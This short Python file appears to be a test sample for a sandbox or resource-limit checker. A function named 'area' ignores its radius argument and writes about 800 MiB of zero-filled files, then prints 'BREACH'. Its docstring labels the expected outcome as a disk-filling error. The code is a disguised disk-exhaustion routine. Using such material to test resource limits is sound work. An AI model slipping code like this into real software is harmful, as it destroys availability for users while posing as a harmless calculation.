"""error: fills the disk
under B: crashed
"""

import time


def area(radius):
    for number in range(100):
        with open(f"file{number}", "wb") as file:
            for _ in range(8):
                file.write(bytes(1 << 20))
        time.sleep(0.02)
    print("BREACH", "800 MiB on disk")
